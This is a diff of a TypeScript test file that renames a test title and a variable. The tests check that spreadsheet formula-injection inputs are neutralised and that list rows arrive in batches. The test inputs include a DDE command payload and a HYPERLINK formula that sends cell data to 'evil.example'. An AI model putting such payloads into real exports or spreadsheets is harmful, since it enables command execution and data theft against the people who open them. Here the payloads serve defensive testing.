@@ -49,7 +49,7 @@ describe('a text that a spreadsheet would evaluate as a formula', () => {
     '“=1',
     '=cmd|’ /C calc’!A0',
     '=HYPERLINK("https://evil.example?"&A1)',
-  ])('%j is neutralised, and comes back as it was', (text) => {
+  ])('%j is neutralised, and an import restores it', (text) => {
     expect(neutralised(text)).toBe(`'${text}`);
     expect(plainOf(neutralised(text))).toBe(text);
   });
@@ -76,9 +76,9 @@ describe('a text that a spreadsheet would evaluate as a formula', () => {
 });
 
 test('all rows of a list come in batches, each after the last row of the one before', async () => {
-  const asked: (number | null)[] = [];
+  const starts: (number | null)[] = [];
   const next = async (behind: number | null, most: number): Promise<number[]> => {
-    asked.push(behind);
+    starts.push(behind);
     return [1, 2, 3, 4, 5, 6].filter((row) => row > (behind ?? 0)).slice(0, most);
   };
   expect(await Readable.from(batchesOf(next, 4)).toArray()).toEqual([
@@ -89,5 +89,5 @@ test('all rows of a list come in batches, each after the last row of the one bef
     [1, 2, 3],
     [4, 5, 6],
   ]);
-  expect(asked).toEqual([null, 4, null, 3, 6]);
+  expect(starts).toEqual([null, 4, null, 3, 6]);
 });
